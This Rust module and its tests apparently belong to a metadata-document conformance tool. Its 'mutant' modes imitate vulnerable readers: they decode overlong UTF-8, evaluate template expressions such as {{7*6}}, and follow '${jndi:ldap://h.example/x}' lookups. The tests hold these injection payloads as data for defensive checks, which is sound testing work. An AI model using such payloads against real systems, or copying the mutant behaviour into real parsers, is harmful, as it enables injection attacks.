//! The text of a document: UTF-8 and inert; and what mutants make of other encodings and of templates.

use std::borrow::Cow;

use serde_json::Map;
use serde_json::Value;

use crate::cimd::document::rules::wrong;
use crate::cimd::refusal::Refusal;
use crate::policy::DocumentPolicy;

/// The first byte of a sequence that spells one of the first 64 characters in two bytes.
const OVERLONG: u8 = 0xc0;
const LOOKUP: &str = "${jndi:";

/// The text of a body: JSON between systems is UTF-8 (RFC 8259 section 8.1).
pub(crate) fn text_of<'a>(policy: &DocumentPolicy, body: &'a [u8]) -> Result<Cow<'a, str>, Refusal> {
    if !policy.utf8.on() {
        return Ok(Cow::Owned(guessed(body)));
    }
    std::str::from_utf8(body)
        .map(Cow::Borrowed)
        .map_err(|_| wrong("it is not UTF-8"))
}

/// What a reader makes of any bytes: by byte order mark, by the zeros of ASCII in wide units, or else byte by byte.
fn guessed(body: &[u8]) -> String {
    let wide = |width: usize, is_big: bool, bytes: &[u8]| -> String {
        let units = bytes.chunks_exact(width).map(|unit| {
            let fold = |number: u32, byte: &u8| number << 8 | u32::from(*byte);
            if is_big {
                unit.iter().fold(0, fold)
            } else {
                unit.iter().rev().fold(0, fold)
            }
        });
        if width == 4 {
            return units.filter_map(char::from_u32).collect();
        }
        let units: Vec<u16> = units.filter_map(|unit| u16::try_from(unit).ok()).collect();
        String::from_utf16_lossy(&units)
    };
    match body {
        [0xff, 0xfe, 0, 0, rest @ ..] => wide(4, false, rest),
        [0, 0, 0xfe, 0xff, rest @ ..] => wide(4, true, rest),
        [0xff, 0xfe, rest @ ..] => wide(2, false, rest),
        [0xfe, 0xff, rest @ ..] => wide(2, true, rest),
        [0xef, 0xbb, 0xbf, rest @ ..] => String::from_utf8_lossy(rest).into_owned(),
        [0, ..] => wide(2, true, body),
        [_, 0, ..] => wide(2, false, body),
        _ => match std::str::from_utf8(body) {
            Ok(text) => text.to_owned(),
            Err(_) if body.contains(&OVERLONG) => shortened(body),
            Err(_) => body.iter().map(|byte| char::from(*byte)).collect(),
        },
    }
}

/// ASCII that was spelled in two bytes, in one.
fn shortened(body: &[u8]) -> String {
    let mut bytes = body.iter();
    let mut out = Vec::new();
    while let Some(byte) = bytes.next() {
        match byte {
            &OVERLONG => out.extend(bytes.next().map(|low| low & 0x3f)),
            byte => out.push(*byte),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Whether a text is in a value that a careless store fails on.
pub(crate) fn has_odd_text(value: &Value) -> bool {
    match value {
        Value::String(text) => text.contains('\0'),
        Value::Array(items) => items.iter().any(has_odd_text),
        Value::Object(members) => members.values().any(has_odd_text),
        Value::Null | Value::Bool(_) | Value::Number(_) => false,
    }
}

/// Carries out what texts ask for, as the mutant does: products in its name, and the URLs that lookups name.
pub(crate) fn carried_out(policy: &DocumentPolicy, members: &mut Map<String, Value>) -> Vec<String> {
    if policy.strings_inert.on() {
        return Vec::new();
    }
    if let Some(Value::String(name)) = members.get_mut("client_name") {
        for (open, close) in [("{{", "}}"), ("${", "}"), ("<%=", "%>"), ("#{", "}")] {
            *name = with_product(name, open, close);
        }
    }
    let mut found = Vec::new();
    members.values().for_each(|value| lookups(value, &mut found));
    found
}

fn with_product(text: &str, open: &str, close: &str) -> String {
    let evaluated = || {
        let (before, rest) = text.split_once(open)?;
        let (inside, after) = rest.split_once(close)?;
        let (left, right) = inside.split_once('*')?;
        let product = left.trim().parse::<u64>().ok()? * right.trim().parse::<u64>().ok()?;
        Some(format!("{before}{product}{after}"))
    };
    evaluated().unwrap_or_else(|| text.to_owned())
}

/// The https URLs of the hosts that lookups in a value name.
fn lookups(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::String(text) => {
            let host = text
                .split_once(LOOKUP)
                .and_then(|(_, rest)| rest.split_once("://"))
                .and_then(|(_, rest)| rest.split(['/', '}']).next());
            found.extend(host.map(|host| format!("https://{host}/lookup")));
        }
        Value::Array(items) => items.iter().for_each(|item| lookups(item, found)),
        Value::Object(members) => members.values().for_each(|value| lookups(value, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::policy::Check;

    #[test]
    fn only_the_mutant_reads_other_encodings_than_utf8() {
        let guessing = DocumentPolicy {
            utf8: Check::Skip.into(),
            ..DocumentPolicy::default()
        };
        let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(*b"{\0}\0").collect();
        let latin = [b'"', 0xe9, b'"'];
        for (bytes, text) in [
            (utf16.as_slice(), "{}"),
            (latin.as_slice(), "\"é\""),
            ([0xc0, 0xaf].as_slice(), "/"),
        ] {
            assert_eq!(
                text_of(&DocumentPolicy::default(), bytes),
                Err(wrong("it is not UTF-8"))
            );
            assert_eq!(text_of(&guessing, bytes).as_deref(), Ok(text));
        }
    }

    #[test]
    fn only_the_mutant_carries_texts_out() {
        let obeying = DocumentPolicy {
            strings_inert: Check::Skip.into(),
            ..DocumentPolicy::default()
        };
        let document = json!({ "client_name": "a{{7*6}}", "contacts": ["${jndi:ldap://h.example/x}"] });
        let mut members = document.as_object().unwrap().clone();
        assert!(carried_out(&DocumentPolicy::default(), &mut members).is_empty());
        assert_eq!(members["client_name"], "a{{7*6}}");
        assert_eq!(carried_out(&obeying, &mut members), ["https://h.example/lookup"]);
        assert_eq!(members["client_name"], "a42");
    }
}
